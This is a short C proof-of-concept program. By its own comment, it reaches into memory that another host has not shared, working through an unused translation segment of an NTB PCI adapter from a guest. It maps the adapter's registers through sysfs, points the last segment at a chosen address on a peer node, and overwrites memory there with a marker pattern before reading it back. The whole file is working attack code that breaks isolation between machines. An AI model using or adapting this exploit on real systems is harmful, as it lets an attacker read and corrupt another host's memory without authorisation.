// Reads and writes where another host has lent nothing, by a segment of the NTB adapter's window that the driver does not use:
// `beyond ADAPTER ADDRESS`, in a guest of two hosts with `iomem=relaxed`. Shows what it read.
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>

static volatile uint8_t *bar(const char *adapter, int number, uint64_t offset, uint64_t bytes) {
    char path[256];
    snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource%d", adapter, number);
    int file = open(path, O_RDWR | O_SYNC);
    void *mapped = file < 0 ? MAP_FAILED : mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, file, offset);
    if (mapped == MAP_FAILED) {
        perror(path);
        exit(1);
    }
    return mapped;
}

static volatile uint32_t *word(volatile uint8_t *in, uint64_t at) { return (volatile uint32_t *)(in + at); }

int main(int count, char **words) {
    if (count != 3)
        return 2;
    uint64_t address = strtoull(words[2], NULL, 16);
    volatile uint8_t *registers = bar(words[1], 0, 0, 0x8000);
    /* The other one that can be reached. */
    uint32_t own = *word(registers, 0x00), node = __builtin_ctz(*word(registers, 0x18) & ~(1u << own));
    uint32_t last = *word(registers, 0x04) - 1;
    uint64_t bytes = *word(registers, 0x08) | (uint64_t)*word(registers, 0x0c) << 32;
    uint64_t start = address & ~(bytes - 1);
    volatile uint8_t *segment = registers + 0x1000 + 16 * last;
    *word(segment, 0) = start;
    *word(segment, 4) = start >> 32;
    *word(segment, 8) = 1 | node << 16;
    volatile uint8_t *window = bar(words[1], 2, last * bytes, bytes);
    for (int n = 0; n < 8; n++)
        *word(window, address - start + 4 * n) = 0x6e65766f;
    printf("%08x\n", *word(window, address - start));
    *word(segment, 8) = 0;
    return 0;
}
